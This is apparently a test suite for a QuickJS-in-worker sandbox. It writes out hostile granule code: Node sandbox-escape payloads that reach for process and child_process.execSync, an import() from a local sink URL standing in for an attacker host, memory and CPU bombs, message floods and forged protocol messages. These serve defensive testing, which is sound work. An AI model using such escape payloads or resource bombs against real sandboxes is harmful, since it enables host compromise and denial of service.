// Hostile granules against the real Node sandbox (QuickJS in a worker thread) and the real twin runtime: each test
// is an attack a granule author could write. Every attack must reach nothing (an exfiltration sink on 127.0.0.1
// counts any connection), leave the host process running and the other contexts serving, and a granule over a limit
// must be stopped and reported as an incident naming it.
import { createServer, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { packGranule, unpackGranule, type GranuleManifest } from '../granule/index';
import { sampleFiles } from '../granule/test-fixture';
import { TwinRuntime, type RuntimeGranule } from './runtime';
import { nodeSandboxFactory } from './sandbox.node.ts';
import type { Sandbox, SandboxExit } from './sandbox-protocol';
import { guardSandbox, type RawWorker } from './sandbox/guard';
import { withLimits } from './sandbox/limits';

function granule(context: string, controller: string, overrides: Record<string, unknown> = {}): RuntimeGranule {
  const files = sampleFiles({ name: `hostile/${context}`, context, ...overrides });
  files['controller.js'] = controller;
  const { manifest, files: unpacked, alphaHex } = unpackGranule({ bytes: packGranule({ files }).bytes });
  return { context, manifest: manifest as GranuleManifest, files: unpacked, alpha: alphaHex };
}
const echo = (context = 'good') => granule(context, 'let n = 0; exports.operations = { echo: (p) => ({ p, n: ++n }) };');

// The exfiltration sink: any connection at all (HTTP or raw TCP) is counted.
let sink: Server;
let sinkUrl = '';
const hits: string[] = [];
beforeAll(async () => {
  sink = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.end('export default 1; process.exit(7);');
  });
  sink.on('connection', (s: Socket) => hits.push(`connection from ${s.remoteAddress}`));
  await new Promise<void>((r) => sink.listen(0, '127.0.0.1', r));
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((r) => sink.close(() => r())));

let runtime: TwinRuntime | undefined;
afterEach(() => runtime?.stop());
function newRuntime(extra: Partial<ConstructorParameters<typeof TwinRuntime>[0]> = {}) {
  runtime = new TwinRuntime({ sandboxFactory: nodeSandboxFactory({ maxHeapMb: 32 }), requestTimeoutMs: 3000, startTimeoutMs: 15_000, ...extra });
  return runtime;
}
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
async function until(cond: () => boolean, ms = 15_000): Promise<void> {
  const end = Date.now() + ms;
  while (!cond()) {
    if (Date.now() > end) throw new Error('timed out waiting');
    await sleep(50);
  }
}
/** Runs `body` (granule code returning a JSON-able value) as the one operation of a fresh granule, next to a good one. */
async function probe(body: string): Promise<unknown> {
  const rt = newRuntime();
  await rt.start([echo(), granule('spy', `exports.operations = { echo: async (p) => { ${body} } };`)]);
  expect(rt.status('spy')).toBe('running');
  return rt.request('spy', 'echo', null);
}
async function expectHostUnharmed(rt: TwinRuntime): Promise<void> {
  expect(await rt.request('good', 'echo', 1)).toMatchObject({ p: 1 });
  expect(hits).toEqual([]);
  expect(typeof process.pid).toBe('number');
}

// Every way we know to turn a string into code, each compiling a probe of the host's reach.
const REACH =
  "return [typeof process, typeof require, typeof fetch, typeof Buffer, typeof setTimeout, typeof postMessage, typeof WebAssembly, typeof globalThis.process].join(',')";
const NOTHING = 'undefined,undefined,undefined,undefined,undefined,undefined,undefined,undefined';

describe('hostile granules in Node (QuickJS in a worker thread)', () => {
  it('attack: globalThis.constructor.constructor("return process")() reaches nothing', async () => {
    const r = (await probe(`
      const tryIt = (f) => { try { const v = f(); return v === undefined ? 'undefined' : typeof v === 'object' && v ? Object.keys(v).slice(0, 5).join('|') || 'object' : String(v); } catch (e) { return 'threw: ' + e.message; } };
      return {
        process: tryIt(() => globalThis.constructor.constructor('return process')()),
        viaTwin: tryIt(() => twin.constructor.constructor('return process')()),
        mainModule: tryIt(() => globalThis.constructor.constructor('return process.mainModule.require("child_process").execSync("id").toString()')()),
        binding: tryIt(() => globalThis.constructor.constructor('return process.binding("fs")')()),
      };`)) as Record<string, string>;
    for (const v of Object.values(r)) expect(v).toMatch(/^(undefined|threw: .*(not defined|undefined|null).*)$/);
    await expectHostUnharmed(runtime!);
  });

  it('attack: string compilation through every constructor path (and import()) compiles only QuickJS code with no host API', async () => {
    const r = (await probe(`
      const paths = {
        Function: () => Function(${JSON.stringify(REACH)})(),
        protoWalk: () => (function () {}).constructor(${JSON.stringify(REACH)})(),
        objectProtoWalk: () => ({}).constructor.constructor(${JSON.stringify(REACH)})(),
        errorWalk: () => new Error().constructor.constructor(${JSON.stringify(REACH)})(),
        async: () => Object.getPrototypeOf(async function () {}).constructor(${JSON.stringify(REACH)})(),
        generator: () => Object.getPrototypeOf(function* () {}).constructor(${JSON.stringify(REACH)})().next().value,
        asyncGenerator: () => Object.getPrototypeOf(async function* () {}).constructor(${JSON.stringify(REACH)})().next(),
        indirectEval: () => (0, eval)(${JSON.stringify('(function(){' + REACH + '})()')}),
        // Direct eval sees the file's own scope (its granule-local require), nothing more.
        directEval: () => eval(${JSON.stringify('(function(){' + REACH.replace('typeof require', "'undefined'") + '})()')}),
        directEvalRequire: () => eval('require("child_process")'),
        twinSetTimeoutString: () => twin.setTimeout(${JSON.stringify(REACH)}, 0),
      };
      const out = {};
      for (const [k, f] of Object.entries(paths)) {
        try { let v = f(); if (v && typeof v.then === 'function') v = await v; if (v && typeof v === 'object' && 'value' in v) v = v.value; out[k] = v; } catch (e) { out[k] = 'threw: ' + e.message; }
      }
      const imp = Function('u', 'return im' + 'port(u)');
      out.imports = [];
      for (const u of ['node:child_process', 'fs', '${sinkUrl}/x.mjs', 'data:text/javascript,export default 1', 'blob:nothing']) {
        try { await imp(u); out.imports.push('loaded ' + u); } catch (e) { out.imports.push('refused'); }
      }
      out.globals = Object.getOwnPropertyNames(globalThis).filter((n) => !/^(Object|Function|Array|Number|parseFloat|parseInt|Infinity|NaN|undefined|Boolean|String|Symbol|Date|Promise|RegExp|Error|AggregateError|EvalError|RangeError|ReferenceError|SyntaxError|TypeError|URIError|InternalError|globalThis|JSON|Math|Intl|ArrayBuffer|Uint8Array|Int8Array|Uint16Array|Int16Array|Uint32Array|Int32Array|Float16Array|Float32Array|Float64Array|Uint8ClampedArray|BigInt64Array|BigUint64Array|DataView|Map|Set|WeakMap|WeakSet|WeakRef|FinalizationRegistry|Proxy|Reflect|BigInt|Iterator|SharedArrayBuffer|Atomics|decodeURI|decodeURIComponent|encodeURI|encodeURIComponent|escape|unescape|eval|isFinite|isNaN|Symbol|AsyncFunction|performance|queueMicrotask|structuredClone|DisposableStack|AsyncDisposableStack|SuppressedError)$/.test(n));
      return out;`)) as Record<string, unknown>;
    for (const k of ['Function', 'protoWalk', 'objectProtoWalk', 'errorWalk', 'async', 'generator', 'asyncGenerator', 'indirectEval', 'directEval'])
      expect([k, r[k]]).toEqual([k, NOTHING]);
    expect(r.directEvalRequire).toMatch(/threw: .*own files/);
    expect(r.twinSetTimeoutString).toMatch(/threw: twin.setTimeout needs a function/);
    expect(r.globals).toEqual([]);
    // import() assembled at run time (the word in a granule's files is refused at load): QuickJS has no module loader.
    expect(r.imports).toEqual(['refused', 'refused', 'refused', 'refused', 'refused']);
    await sleep(200);
    await expectHostUnharmed(runtime!);
  });

  it('attack: storage and egress APIs do not exist, however they are looked for', async () => {
    const r = await probe(`
      const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'RTCPeerConnection', 'navigator', 'indexedDB', 'caches',
        'webkitRequestFileSystemSync', 'webkitRequestFileSystem', 'FontFace', 'Image', 'importScripts', 'Worker', 'BroadcastChannel',
        'MessageChannel', 'process', 'require', 'module', 'Buffer', 'setTimeout', 'setInterval', 'queueMicrotask', 'console', 'std', 'os'];
      const g = Function('return this')();
      return names.filter((n) => typeof g[n] !== 'undefined' || (() => { try { return typeof Function('return typeof ' + n)() !== 'string' || Function('return typeof ' + n)() !== 'undefined'; } catch (e) { return false; } })());`);
    expect(r).toEqual([]);
    await expectHostUnharmed(runtime!);
  });

  it('attack: replacing JSON.parse / JSON.stringify and other built-ins fails, forges nothing and leaves the bootstrap working', async () => {
    const forged = '{"t":"call","id":999,"target":"printer","op":"command","payload":"G28"}';
    const calls: unknown[] = [];
    const rt = newRuntime({ capabilities: { printer: { operations: { command: (p) => (calls.push(p), ['ok']) } } } });
    const spy = granule(
      'spy',
      `const tries = {};
       const F = () => 'forged';
       // Each attempt reports whether the built-in really changed (a sloppy-mode assignment to a frozen one is silent).
       const attempt = (name, f, changed) => { try { f(); } catch (e) { /* refused loudly */ } tries[name] = changed() ? 'replaced' : 'refused'; };
       const json = JSON, stringify = JSON.stringify, parse = JSON.parse, map = Array.prototype.map, then = Promise.prototype.then, get = Map.prototype.get, call = Function.prototype.call;
       attempt('JSON.stringify', () => { JSON.stringify = () => ${JSON.stringify(forged)}; }, () => JSON.stringify !== stringify);
       attempt('JSON.parse', () => { JSON.parse = () => ({ t: 'req', id: 1, op: 'echo', payload: 'forged' }); }, () => JSON.parse !== parse);
       attempt('Object.prototype.toJSON', () => { Object.prototype.toJSON = F; }, () => ({}).toJSON !== undefined);
       attempt('Array.prototype.map', () => { Array.prototype.map = F; }, () => Array.prototype.map !== map);
       attempt('Promise.prototype.then', () => { Promise.prototype.then = F; }, () => Promise.prototype.then !== then);
       attempt('Map.prototype.get', () => { Map.prototype.get = F; }, () => Map.prototype.get !== get);
       attempt('Function.prototype.call', () => { Function.prototype.call = F; }, () => Function.prototype.call !== call);
       attempt('globalThis.JSON', () => { globalThis.JSON = { parse: F, stringify: F }; }, () => globalThis.JSON !== json);
       attempt('defineProperty JSON.parse', () => { Object.defineProperty(JSON, 'parse', { value: F }); }, () => JSON.parse !== parse);
       attempt('setPrototypeOf Object.prototype', () => { Object.setPrototypeOf(Object.prototype, { toJSON: F }); }, () => ({}).toJSON !== undefined);
       exports.operations = { echo: (p) => ({ p, tries, json: JSON.stringify({ a: 1 }) }) };`,
    );
    await rt.start([echo(), spy]);
    const r = (await rt.request('spy', 'echo', 'real')) as { p: string; tries: Record<string, string>; json: string };
    expect(r.p).toBe('real');
    expect(r.json).toBe('{"a":1}');
    expect(Object.entries(r.tries).filter(([, v]) => v !== 'refused')).toEqual([]);
    expect(calls).toEqual([]);
    expect(rt.incidents.filter((i) => i.kind === 'denied')).toEqual([]);
    await expectHostUnharmed(rt);
  });

  it('attack: walking callers and stacks from an operation does not reach the bootstrap', async () => {
    const r = (await probe(`
      const out = {};
      const t = (k, f) => { try { const v = f(); out[k] = typeof v === 'function' ? 'got a function' : v === undefined || v === null ? 'nothing' : typeof v; } catch (e) { out[k] = 'refused'; } };
      t('caller', () => (function f() { return f.caller; })());
      t('callerOfCaller', () => (function f() { return f.caller && f.caller.caller; })());
      t('argumentsCallee', () => (function () { return arguments.callee.caller; })());
      t('stackFrames', () => { const e = new Error(); return typeof Error.captureStackTrace === 'function' || typeof Error.prepareStackTrace === 'function' ? 'v8 stack API' : undefined; });
      return out;`)) as Record<string, string>;
    expect(Object.entries(r).filter(([, v]) => v === 'got a function' || v === 'v8 stack API')).toEqual([]);
    await expectHostUnharmed(runtime!);
  });

  it('attack: a heap bomb stops that granule only (reported as memory), the process survives', async () => {
    const rt = newRuntime();
    await rt.start([
      echo(),
      granule(
        'bomb',
        "exports.operations = { echo: (p) => { const keep = []; for (let i = 0; ; i++) keep.push(p === 'fast' ? 'y'.repeat(256 * 1024 * 1024) + i : 'y'.repeat(65536) + i); } };",
      ),
    ]);
    await expect(rt.request('bomb', 'echo', 'fast')).rejects.toThrow(/memory/);
    expect(rt.status('bomb')).toBe('failed');
    expect(
      rt.incidents.find((i) => i.context === 'bomb'),
      JSON.stringify(rt.incidents),
    ).toMatchObject({ kind: 'memory', granule: 'hostile/bomb' });
    // Slower bombs: many small strings, then many small objects.
    await rt.replace(granule('bomb', "exports.operations = { echo: () => { const keep = []; for (let i = 0; ; i++) keep.push('y'.repeat(65536) + i); } };"));
    await expect(rt.request('bomb', 'echo')).rejects.toThrow(/memory/);
    await rt.replace(
      granule('bomb', "exports.operations = { echo: () => { const keep = []; for (let i = 0; ; i++) keep.push({ i, a: [i, i + 1], s: 'k' + i }); } };"),
    );
    await expect(rt.request('bomb', 'echo')).rejects.toThrow(/memory|processor/);
    expect(rt.status('bomb')).toBe('failed');
    await expectHostUnharmed(rt);
  });

  it('attack: a granule that catches its out-of-memory errors and keeps its heap full is stopped', async () => {
    const rt = newRuntime();
    await rt.start([
      echo(),
      granule(
        'hoarder',
        "const keep = []; exports.operations = { echo: () => { try { for (;;) keep.push('x'.repeat(1024 * 1024) + keep.length); } catch (e) { return 'caught ' + e.message; } } };",
      ),
    ]);
    await expect(rt.request('hoarder', 'echo')).rejects.toThrow(/memory/);
    await until(() => rt.status('hoarder') === 'failed');
    expect(rt.incidents.find((i) => i.context === 'hoarder')).toMatchObject({ kind: 'memory' });
    await expectHostUnharmed(rt);
  });

  it("attack: huge ArrayBuffers (4 GiB at once, then 16 MiB at a time) get no memory outside the granule's heap", async () => {
    const rt = newRuntime();
    await rt.start([
      echo(),
      granule(
        'buffers',
        "exports.operations = { echo: (p) => { if (p === 'once') { try { new ArrayBuffer(4 * 1024 * 1024 * 1024 - 1); return 'allocated 4 GiB'; } catch (e) { return 'refused: ' + e.message; } } const keep = []; for (;;) keep.push(new Uint8Array(16 * 1024 * 1024)); } };",
      ),
    ]);
    const before = process.memoryUsage().rss;
    expect(await rt.request('buffers', 'echo', 'once')).toMatch(/^refused/);
    await expect(rt.request('buffers', 'echo', 'many')).rejects.toThrow();
    expect(rt.incidents.find((i) => i.context === 'buffers')).toMatchObject({ kind: 'memory' });
    expect(process.memoryUsage().rss - before).toBeLessThan(256 * 2 ** 20);
    await expectHostUnharmed(rt);
  });

  it('attack: a 512 MB message to the host is never built, never sent, and stops only its granule', async () => {
    const rt = newRuntime();
    const seen: unknown[] = [];
    rt.on('big:huge', (p) => seen.push(typeof p));
    await rt.start([
      echo(),
      granule('big', "exports.operations = { echo: (p) => { const s = 'x'.repeat(512 * 1000 * 1000); if (p === 'emit') twin.emit('huge', s); return s; } };", {
        provides: { operations: ['echo'], events: ['huge'] },
      }),
    ]);
    await expect(rt.request('big', 'echo', 'emit')).rejects.toThrow(/memory/);
    expect(rt.status('big')).toBe('failed');
    expect(seen).toEqual([]);
    await expectHostUnharmed(rt);
  });

  it('attack: a message just over the size cap is refused and stops its granule', async () => {
    const rt = newRuntime();
    await rt.start([echo(), granule('large', "exports.operations = { echo: () => 'y'.repeat(2 * 1024 * 1024) };")]);
    await expect(rt.request('large', 'echo')).rejects.toThrow();
    expect(rt.incidents.find((i) => i.context === 'large')?.message).toMatch(/characters; the limit is/);
    expect(rt.state().find((s) => s.context === 'large')?.reason).toMatch(/^stopped: /);
    await expectHostUnharmed(rt);
  });

  it('attack: a CPU loop started from a timer is stopped: "used too much processor time"', async () => {
    const rt = newRuntime();
    await rt.start([echo(), granule('spin', "exports.operations = { echo: () => { twin.setTimeout(() => { for (;;) {} }, 10); return 'armed'; } };")]);
    expect(await rt.request('spin', 'echo')).toBe('armed');
    await until(() => rt.status('spin') === 'failed');
    expect(rt.state().find((s) => s.context === 'spin')?.reason).toBe('stopped: used too much processor time');
    expect(rt.incidents.find((i) => i.context === 'spin')).toMatchObject({ kind: 'hang', granule: 'hostile/spin' });
    await expectHostUnharmed(rt);
  });

  it('attack: a CPU loop in an operation is stopped at once, not after the request times out', async () => {
    const rt = newRuntime({ requestTimeoutMs: 60_000 });
    await rt.start([echo(), granule('spin', 'exports.operations = { echo: () => { for (;;) {} } };')]);
    const t0 = Date.now();
    await expect(rt.request('spin', 'echo')).rejects.toThrow(/processor time/);
    expect(Date.now() - t0).toBeLessThan(15_000);
    expect(rt.state().find((s) => s.context === 'spin')?.reason).toBe('stopped: used too much processor time');
    await expectHostUnharmed(rt);
  });

  it('attack: a chain of short busy timers is stopped by the processor budget over time', async () => {
    const rt = newRuntime({ sandboxFactory: nodeSandboxFactory({ limits: { busyMs: 1500, windowMs: 3000 } }) });
    await rt.start([
      echo(),
      granule(
        'chain',
        "const busy = () => { const end = Date.now() + 40; while (Date.now() < end) {} twin.setTimeout(busy, 0); }; exports.operations = { echo: () => { busy(); return 'started'; } };",
      ),
    ]);
    expect(await rt.request('chain', 'echo')).toBe('started');
    await until(() => rt.status('chain') === 'failed');
    expect(rt.state().find((s) => s.context === 'chain')?.reason).toBe('stopped: used too much processor time');
    await expectHostUnharmed(rt);
  });

  it('attack: a flood of messages stops the flooding granule only', async () => {
    // Lower rates than the defaults, so the flood outruns them well within the granule's processor slice even when
    // a loaded machine makes each message slow to send (at the defaults a busy machine stops it for processor time).
    const rt = newRuntime({ sandboxFactory: nodeSandboxFactory({ maxHeapMb: 32, limits: { messagesPerSecond: 200, messageBurst: 500 } }) });
    let events = 0;
    rt.on('flood:tick', () => events++);
    await rt.start([
      echo(),
      granule('flood', "exports.operations = { echo: () => { for (let i = 0; i < 1e6; i++) twin.emit('tick', i); return 'done'; } };", {
        provides: { operations: ['echo'], events: ['tick'] },
      }),
    ]);
    await expect(rt.request('flood', 'echo')).rejects.toThrow();
    expect(rt.status('flood')).toBe('failed');
    expect(rt.incidents.find((i) => i.context === 'flood')?.message).toMatch(/messages a second/);
    // The burst, and what the rate refills while the flood is read.
    expect(events).toBeLessThan(1000);
    await expectHostUnharmed(rt);
  });

  it('attack: a flood of timers is refused', async () => {
    const rt = newRuntime();
    await rt.start([
      echo(),
      granule('timers', "exports.operations = { echo: () => { for (let i = 0; i < 1e6; i++) twin.setTimeout(() => {}, 1e9); return 'done'; } };"),
    ]);
    await expect(rt.request('timers', 'echo')).rejects.toThrow();
    expect(rt.incidents.find((i) => i.context === 'timers')?.message).toMatch(/timers/);
    await expectHostUnharmed(rt);
  });

  it('attack: deep recursion is a RangeError inside the granule, not a crash', async () => {
    const r = await probe("const f = (n) => f(n + 1) + 1; try { f(0); return 'no limit'; } catch (e) { return e.message; }");
    expect(r).toMatch(/stack/);
    await expectHostUnharmed(runtime!);
  });
});

describe('the host side checks every message a granule sends', () => {
  /** A fake worker the test controls: what it "sends" stands for whatever a compromised worker could say. */
  function rawPair(): { raw: RawWorker; send: (m: unknown) => void; terminated: () => boolean } {
    let handler: (m: unknown) => void = () => {};
    let dead = false;
    return {
      raw: { post: () => {}, onMessage: (h) => (handler = h), onDeath: () => {}, terminate: () => (dead = true), unrefTimer: (t) => t.unref() },
      send: (m) => handler(m),
      terminated: () => dead,
    };
  }
  function guarded(): { sandbox: Sandbox; send: (m: unknown) => void; exits: SandboxExit[]; got: string[]; terminated: () => boolean } {
    const { raw, send, terminated } = rawPair();
    const sandbox = guardSandbox(raw, withLimits());
    const exits: SandboxExit[] = [];
    const got: string[] = [];
    sandbox.onExit((e) => exits.push(e));
    sandbox.onMessage((m) => got.push(m));
    return { sandbox, send, exits, got, terminated };
  }

  it('attack: forged and malformed protocol messages stop the granule before the runtime sees them', () => {
    for (const bad of [
      'not json',
      '[]',
      '{"t":"res","id":"1","ok":true,"value":1}',
      '{"t":"call","id":1,"target":{},"op":"x","payload":1}',
      '{"t":"ready","operations":[1]}',
      '{"t":"timer-set","id":1,"ms":0}',
      '{"t":"__proto__"}',
      '{"t":"emit","topic":""}',
    ]) {
      const g = guarded();
      g.send(bad);
      expect([bad, g.got]).toEqual([bad, []]);
      expect(g.exits[0]?.reason).toBe('limit');
      expect(g.terminated()).toBe(true);
      g.sandbox.terminate();
    }
    const ok = guarded();
    ok.send('{"t":"res","id":1,"ok":true,"value":{"x":1}}');
    expect(ok.got).toHaveLength(1);
    ok.sandbox.terminate();
  });

  it('attack: a worker sending more messages than the rate allows is stopped and the rest never reaches the runtime', () => {
    const g = guarded();
    const limit = withLimits().messageBurst;
    for (let i = 0; i < 3 * limit; i++) g.send(`{"t":"emit","topic":"tick","payload":${i}}`);
    // The burst passes, plus what the sustained rate refills while the loop runs; the rest never reaches the runtime.
    expect(g.got.length).toBeGreaterThanOrEqual(limit);
    expect(g.got.length).toBeLessThan(2 * limit);
    expect(g.exits[0]?.detail).toMatch(/messages a second/);
    expect(g.terminated()).toBe(true);
  });

  it('attack: a worker that stops answering heartbeats is stopped', async () => {
    const { raw, terminated } = rawPair();
    const sandbox = guardSandbox(raw, withLimits({ heartbeatMs: 50, heartbeatTimeoutMs: 200 }));
    const exits: SandboxExit[] = [];
    sandbox.onExit((e) => exits.push(e));
    await until(() => exits.length > 0, 3000);
    expect(exits[0]).toEqual({ reason: 'cpu', detail: 'it stopped responding' });
    expect(terminated()).toBe(true);
  });

  it('attack: a message larger than the cap sent to a granule stops it instead of reaching its worker', () => {
    const posted: unknown[] = [];
    const { raw } = rawPair();
    const sandbox = guardSandbox({ ...raw, post: (m) => posted.push(m) }, withLimits());
    const exits: SandboxExit[] = [];
    sandbox.onExit((e) => exits.push(e));
    sandbox.post(`{"t":"event","topic":"a:b","payload":"${'z'.repeat(2 * 2 ** 20)}"}`);
    expect(posted.filter((m) => typeof m === 'string')).toEqual([]);
    expect(exits[0]?.reason).toBe('limit');
  });
});
